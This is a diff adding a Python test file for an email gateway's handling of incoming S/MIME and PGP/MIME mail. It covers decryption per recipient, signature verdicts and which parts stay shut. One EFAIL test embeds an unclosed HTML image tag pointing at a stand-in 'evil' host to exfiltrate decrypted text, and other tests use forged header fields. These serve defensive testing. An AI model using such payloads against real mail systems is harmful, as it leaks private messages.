@@ -1,0 +1,272 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Incoming S/MIME and PGP/MIME, made by openssl and gpg: what is opened, for whom, what is said of signatures, and what
+stays shut. `sealpost explain --incoming`, the gateway's own pipeline without an MTA."""
+import base64
+import hashlib
+import re
+import shutil
+import sys
+import tempfile
+from pathlib import Path
+
+from lib import BUILD, Tap
+
+from demo import people as cast
+from demo.pki import Authority
+from demo.process import run
+from demo.sealpost import Sealpost
+
+ALICE, BOSS, SOFIA, PETER = cast.ALICE, cast.BOSS, cast.SOFIA, cast.PETER
+ELLI = cast.Person("elli@firma.example", "Elli Curve", smime="ec")
+ENTITY = b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nGeheim\r\n"
+
+
+class Work:
+    def __init__(self, folder):
+        self.folder = Path(folder)
+        authority, stranger = Authority(self.folder / "ca"), Authority(self.folder / "other")
+        self.cabinet = cast.Cabinet(self.folder / "people", authority)
+        self.cabinet.furnish((ALICE, BOSS, SOFIA, ELLI, PETER))
+        self.foreign = stranger.person("Eve", SOFIA.address)
+        self.sealpost = Sealpost(BUILD, self.folder / "sealpost", self.folder, self.folder / "log",
+                                 None)
+        self.sealpost.init("firma.example")
+        self.sealpost.set_policy('internal domains "firma.example"\noutgoing require smime\n')
+        self.sealpost.run("key", "import", "--trusted", authority.root)
+        self.sealpost.run("key", "import", authority.intermediate,
+                          *[self.cabinet(p, name) for p in (ALICE, BOSS, ELLI)
+                            for name in ("cert.pem", "key.pem")],
+                          self.cabinet(ALICE, "secret.asc"), self.cabinet(PETER, "public.asc"))
+        self.home = self.folder / "gpg"
+        self.home.mkdir(mode=0o700)
+        self.gpg("--import", self.cabinet(PETER, "secret.asc"), self.cabinet(ALICE, "public.asc"),
+                 self.cabinet(BOSS, "public.asc"))
+        self.intermediate = authority.intermediate
+
+    def gpg(self, *words, stdin=None):
+        return run(["gpg", "--homedir", self.home, "--batch", "--quiet", "--armor",
+                    "--trust-model", "always", *words], stdin=stdin).stdout
+
+    def pgp_encrypted(self, entity, *people, options=("--sign", "-u", PETER.address)):
+        to = [word for person in people for word in ("-r", person.address)]
+        armour = self.gpg(*options, *to, "--encrypt", stdin=entity)
+        return pgp_mime(armour)
+
+    def pgp_signed(self, entity):
+        armour = self.gpg("-u", PETER.address, "--detach-sign", "--digest-algo", "SHA256",
+                          stdin=entity)
+        return (b'Content-Type: multipart/signed; micalg=pgp-sha256; boundary="b";\r\n'
+                b' protocol="application/pgp-signature"\r\n\r\n--b\r\n' + entity +
+                b"\r\n--b\r\nContent-Type: application/pgp-signature\r\n\r\n" +
+                crlf(armour) + b"\r\n--b--\r\n")
+
+    def signed(self, entity, *options, who=None):
+        cert, key = who[::-1] if who else (self.cabinet(SOFIA, "cert.pem"),
+                                           self.cabinet(SOFIA, "key.pem"))
+        return crlf(run(["openssl", "cms", "-sign", "-binary", "-signer", cert, "-inkey", key,
+                         "-certfile", self.intermediate, *options], stdin=entity).stdout)
+
+    def encrypted(self, entity, *people, cipher="-aes-256-cbc"):
+        return crlf(run(["openssl", "cms", "-encrypt", "-binary", cipher,
+                         *[self.cabinet(p, "cert.pem") for p in people]], stdin=entity).stdout)
+
+    def explain(self, entity, *to, sender=SOFIA.address):
+        """(JSON, the files that would leave) of a message with this content."""
+        out = self.folder / "out"
+        shutil.rmtree(out, ignore_errors=True)
+        message = (f"From: Sofia <{sender}>\r\nSubject: s\r\nX-Sealpost-Incoming: forged\r\n"
+                   "Authentication-Results: GATEWAY; smime=pass\r\n").encode() + entity
+        answer, status = self.sealpost.explain(sender, [p.address for p in to], message,
+                                               "--incoming", "--output", str(out))
+        assert status == 0, answer
+        return answer, [(out / v["file"]).read_bytes() for v in answer["variants"]]
+
+
+def pgp_mime(armour):
+    return (b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted";\r\n'
+            b' boundary="b"\r\n\r\n--b\r\nContent-Type: application/pgp-encrypted\r\n\r\n'
+            b"Version: 1\r\n\r\n--b\r\nContent-Type: application/octet-stream\r\n\r\n" +
+            crlf(armour) + b"\r\n--b--\r\n")
+
+
+def crlf(data):
+    return re.sub(rb"(?<!\r)\n", b"\r\n", data)
+
+
+def layers(variant):
+    return [(x["kind"], x["result"], x.get("reason")) for x in variant["layers"]]
+
+
+def signatures(variant):
+    return [(x["result"], x["signer"], x["matches_from"]) for x in variant["signatures"]]
+
+
+def opened(kind="smime-encrypted"):
+    return (kind, "opened", None)
+
+
+GOOD = ("good", SOFIA.address, True)
+
+
+def forms(work, tap):
+    with tap.case("encrypted, each cipher and key: opened in place, the bytes as they were"):
+        for cipher, kind, warned in (("-aes-256-cbc", "smime-encrypted", True),
+                                     ("-aes-128-cbc", "smime-encrypted", True),
+                                     ("-des3", "smime-encrypted", True),
+                                     ("-aes-256-gcm", "smime-auth-encrypted", False)):
+            for person in (ALICE, ELLI):
+                answer, files = work.explain(work.encrypted(ENTITY, person, cipher=cipher), person)
+                variant = answer["variants"][0]
+                assert answer["recipients"][0]["way"] == "opened", (cipher, answer)
+                assert layers(variant) == [opened(kind)], variant
+                assert variant["layers"][0]["sha256"] == hashlib.sha256(ENTITY).hexdigest()
+                assert ("not-protected-against-change" in variant["warnings"]) == warned
+                assert ("weak-cipher" in variant["warnings"]) == (cipher == "-des3")
+                assert files[0].endswith(ENTITY.split(b"\r\n\r\n")[1])
+                assert b"pkcs7" not in files[0] and b"forged" not in files[0]
+    with tap.case("signed inside: good, and the warning is gone"):
+        answer, files = work.explain(work.encrypted(work.signed(ENTITY), ALICE), ALICE)
+        variant = answer["variants"][0]
+        assert layers(variant) == [opened(), opened("smime-signed")], variant
+        assert signatures(variant) == [GOOD] and not variant["warnings"], variant
+        assert files[0].startswith(b"Authentication-Results: ") and b"smime=pass (good)" in files[0]
+    with tap.case("opaque: unwrapped; triple: unwrapped to the middle"):
+        answer, files = work.explain(work.signed(ENTITY, "-nodetach"), ALICE)
+        assert layers(answer["variants"][0]) == [opened("smime-opaque-signed")]
+        assert signatures(answer["variants"][0]) == [GOOD] and b"Geheim" in files[0]
+        triple = work.signed(work.encrypted(work.signed(ENTITY), ALICE))
+        answer, files = work.explain(triple, ALICE)
+        assert layers(answer["variants"][0]) == [opened("smime-signed"), opened(),
+                                                 opened("smime-signed")]
+        assert b"Geheim" in files[0] and signatures(answer["variants"][0]) == [GOOD, GOOD]
+    with tap.case("clear-signed: stays as it came, with the result on top"):
+        entity = work.signed(ENTITY)
+        answer, files = work.explain(entity, ALICE)
+        assert answer["recipients"][0]["way"] == "unchanged"
+        assert signatures(answer["variants"][0]) == [GOOD]
+        assert entity.split(b"\r\n\r\n", 1)[1] in files[0]
+
+
+def owners(work, tap):
+    with tap.case("for two of whom one has the key: two variants, the other sees nothing"):
+        answer, files = work.explain(work.encrypted(ENTITY, ALICE), ALICE, BOSS)
+        assert [r["way"] for r in answer["recipients"]] == ["opened", "unchanged"]
+        assert layers(answer["variants"][1]) == [("smime-encrypted", "shut", "no-key")]
+        assert b"Geheim" in files[0] and b"Geheim" not in files[1]
+    with tap.case("for two who both have one: one variant"):
+        answer, _ = work.explain(work.encrypted(ENTITY, ALICE, BOSS), ALICE, BOSS)
+        assert [r["way"] for r in answer["recipients"]] == ["opened", "opened"]
+    with tap.case("captured and sent to somebody else: shut"):
+        answer, files = work.explain(work.encrypted(ENTITY, ALICE), BOSS, sender="eve@else.example")
+        assert answer["recipients"][0]["way"] == "unchanged" and b"Geheim" not in files[0]
+    with tap.case("a part beside others, an attached message: shut (EFAIL)"):
+        inner = work.encrypted(ENTITY, ALICE)
+        mixed = (b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n'
+                 b'Content-Type: text/html\r\n\r\n<img src="http://evil/?\r\n--b\r\n' + inner +
+                 b"\r\n--b--\r\n")
+        attached = b"Content-Type: message/rfc822\r\n\r\nSubject: x\r\n" + inner
+        for entity in (mixed, attached):
+            answer, files = work.explain(entity, ALICE)
+            assert answer["recipients"][0]["way"] == "unchanged"
+            assert not answer["variants"][0]["layers"] and b"Geheim" not in files[0]
+            assert entity in files[0]
+
+
+def verdicts(work, tap):
+    with tap.case("a signer who is not the sender; an unknown CA; changed bytes: as they are"):
+        answer, _ = work.explain(work.signed(ENTITY), ALICE, sender="eve@else.example")
+        assert signatures(answer["variants"][0]) == [("good", SOFIA.address, False)]
+        answer, files = work.explain(work.signed(ENTITY, who=work.foreign), ALICE)
+        assert [s[0] for s in signatures(answer["variants"][0])] == ["untrusted"]
+        assert b"smime=neutral" in files[0]
+        answer, files = work.explain(work.signed(ENTITY).replace(b"Geheim", b"Gehe1m"), ALICE)
+        assert [s[0] for s in signatures(answer["variants"][0])] == ["bad"]
+        assert b"smime=fail" in files[0]
+    with tap.case("two From lines: nothing matches, and it is said"):
+        answer, _ = work.explain(b"From: alice@firma.example\r\n" + work.signed(ENTITY), ALICE)
+        assert not answer["variants"][0]["signatures"][0]["matches_from"]
+        assert "several-from" in answer["variants"][0]["warnings"]
+    with tap.case("damaged ones: delivered as they came"):
+        for cipher in ("-aes-256-cbc", "-aes-256-gcm"):
+            whole = work.encrypted(ENTITY * 50, ALICE, cipher=cipher)
+            head, body = whole.split(b"\r\n\r\n", 1)
+            raw = bytearray(base64.b64decode(body))
+            for broken in (raw[:-40], raw[:len(raw) // 2], raw[:-60] + b"\0" * 60, raw[:5]):
+                entity = head + b"\r\n\r\n" + crlf(base64.encodebytes(bytes(broken)))
+                answer, files = work.explain(entity, ALICE)
+                assert answer["recipients"][0]["way"] == "unchanged", answer
+                assert b"Geheim" not in files[0] and entity in files[0]
+    with tap.case("nested beyond the limit: the rest stays shut"):
+        entity = ENTITY
+        for _ in range(10):
+            entity = work.encrypted(entity, ALICE)
+        answer, _ = work.explain(entity, ALICE)
+        assert layers(answer["variants"][0])[8] == ("smime-encrypted", "shut", "too-deep")
+    with tap.case("our own header fields from outside are gone, our name too"):
+        name = re.search(rb"Authentication-Results: ([^;]+);",
+                         work.explain(work.signed(ENTITY), ALICE)[1][0]).group(1)
+        entity = b"Authentication-Results: " + name + b"; smime=pass\r\n" + ENTITY
+        assert b"smime=pass" not in work.explain(entity, ALICE)[1][0].replace(b"GATEWAY; smime=pass", b"")
+
+
+def openpgp(work, tap):
+    with tap.case("PGP/MIME, signed and encrypted in one; encrypted alone; as Exchange leaves it"):
+        entity = work.pgp_encrypted(ENTITY, ALICE)
+        mangled = entity.replace(b"multipart/encrypted;", b"multipart/mixed;")
+        for content in (entity, mangled):
+            answer, files = work.explain(content, ALICE, sender=PETER.address)
+            variant = answer["variants"][0]
+            assert answer["recipients"][0]["way"] == "opened", answer
+            assert layers(variant) == [opened("pgp-encrypted")], variant
+            assert signatures(variant) == [("good", PETER.address, True)], variant
+            assert b"Geheim" in files[0] and b"PGP MESSAGE" not in files[0]
+            assert b"pgp=pass (good)" in files[0]
+        answer, _ = work.explain(work.pgp_encrypted(ENTITY, ALICE, options=()), ALICE)
+        assert layers(answer["variants"][0]) == [opened("pgp-encrypted")]
+        assert not answer["variants"][0]["signatures"]
+    with tap.case("PGP/MIME signed: stays, with the result on top; changed bytes; another sender"):
+        entity = work.pgp_signed(ENTITY)
+        answer, files = work.explain(entity, ALICE, sender=PETER.address)
+        assert answer["recipients"][0]["way"] == "unchanged" and entity in files[0]
+        assert signatures(answer["variants"][0]) == [("good", PETER.address, True)], answer
+        answer, _ = work.explain(entity.replace(b"Geheim", b"Gehe1m"), ALICE, sender=PETER.address)
+        assert signatures(answer["variants"][0])[0][0] == "bad"
+        answer, _ = work.explain(entity, ALICE, sender="eve@else.example")
+        assert signatures(answer["variants"][0])[0] == ("no-key", None, False)
+    with tap.case("an armour that is the whole text"):
+        armour = crlf(work.gpg("-r", ALICE.address, "--encrypt", stdin=b"Geheim\n"))
+        answer, files = work.explain(b"Content-Type: text/plain\r\n\r\n" + armour, ALICE)
+        assert layers(answer["variants"][0]) == [opened("pgp-inline-encrypted")], answer
+        assert b"Geheim" in files[0]
+        answer, files = work.explain(b"Content-Type: text/plain\r\n\r\nhi\r\n" + armour, ALICE)
+        assert answer["recipients"][0]["way"] == "unchanged" and not answer["variants"][0]["layers"]
+    with tap.case("for somebody else; without integrity protection; damaged: shut"):
+        for recipient in (BOSS, ALICE):
+            answer, files = work.explain(work.pgp_encrypted(ENTITY, BOSS), recipient)
+            assert layers(answer["variants"][0]) == [("pgp-encrypted", "shut", "no-key")], answer
+            assert b"Geheim" not in files[0]
+        whole = work.pgp_encrypted(ENTITY * 20, ALICE)
+        lines = whole.split(b"\r\n")
+        middle = len(lines) // 2
+        for broken in (lines[:middle] + [lines[middle][::-1]] + lines[middle + 1:],
+                       lines[:middle] + lines[middle + 3:]):
+            answer, files = work.explain(b"\r\n".join(broken), ALICE)
+            assert answer["recipients"][0]["way"] == "unchanged" and b"Geheim" not in files[0]
+        old = work.gpg("--rfc2440", "--disable-mdc", "--cipher-algo", "3DES", "-r", ALICE.address,
+                       "--encrypt", stdin=ENTITY)
+        answer, files = work.explain(pgp_mime(old), ALICE)
+        assert b"Geheim" not in files[0], answer
+
+
+def main():
+    tap, folder = Tap(), tempfile.mkdtemp(prefix="si-")
+    try:
+        work = Work(folder)
+        for part in (forms, owners, verdicts, openpgp):
+            part(work, tap)
+    finally:
+        shutil.rmtree(folder)
+    sys.exit(tap.finish())
+
+
+main()
